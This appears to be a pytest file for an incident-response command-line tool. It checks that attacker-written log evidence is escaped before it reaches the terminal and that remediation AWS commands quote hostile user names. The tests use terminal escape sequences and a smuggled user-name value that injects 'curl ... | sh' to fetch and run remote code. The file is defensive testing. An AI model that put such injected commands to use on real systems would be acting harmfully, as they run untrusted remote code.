"""The command line with attacker-written evidence: nothing reaches the terminal or a shell unescaped."""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from typing import Any

import pytest
from findings.records import ATTACKER_IP, K1, leak_story

from ircreds.cli import main

ESCAPES = "203.0.113.50\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
USER = "svc; curl https://203.0.113.9/x | sh #"


def _swap(value: Any, old: str, new: str) -> Any:
    if isinstance(value, str):
        return new if value == old else value
    if isinstance(value, dict):
        return {k: _swap(v, old, new) for k, v in value.items()}
    if isinstance(value, list):
        return [_swap(v, old, new) for v in value]
    return value


def _trail(tmp_path: Path, records: list[dict[str, Any]]) -> Path:
    folder = tmp_path / "evidence"
    folder.mkdir()
    (folder / "trail.json").write_text(json.dumps({"Records": records}))
    return folder


@pytest.mark.parametrize("fmt", [[], ["--json"]])
def test_trace_never_prints_raw_terminal_escapes_from_the_evidence(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: list[str]
) -> None:
    trail = _trail(tmp_path, _swap(leak_story(), ATTACKER_IP, ESCAPES))
    assert main(["trace", str(trail), "--key", K1, *fmt]) == 0
    out = capsys.readouterr().out
    for char in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert char not in out
    if fmt:
        assert (
            ESCAPES in json.loads(out)["calls"]["source_ips"]
        )  # the JSON still says exactly what was logged
    else:
        assert "203.0.113.50\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\u202e" in out


def test_plan_prints_remediation_commands_with_attacker_names_quoted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    trail = _trail(tmp_path, _swap(leak_story(), "backup-svc", USER))
    argv = [
        "plan",
        str(trail),
        "--key",
        K1,
        "--cutoff",
        "2025-01-20T12:00:00Z",
        "--now",
        "2025-01-20T12:00:00Z",
    ]
    assert main(argv) == 0
    out = capsys.readouterr().out
    commands = [
        line[line.index("(aws iam") + 1 : line.rindex(")")] for line in out.splitlines() if "(aws iam" in line
    ]
    assert commands
    for command in commands:
        words = shlex.split(command)
        assert words[:3] == ["aws", "iam", "update-access-key"]
        assert words[words.index("--user-name") + 1] == USER
        assert ";" not in "".join(w for w in words if w != USER)


def test_an_error_message_naming_hostile_text_is_one_escaped_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "no\x1b[2Jsuch"
    assert main(["trace", str(missing), "--key", K1]) == 1
    err = capsys.readouterr().err
    assert "\x1b" not in err
    assert "no\\x1b[2Jsuch" in err
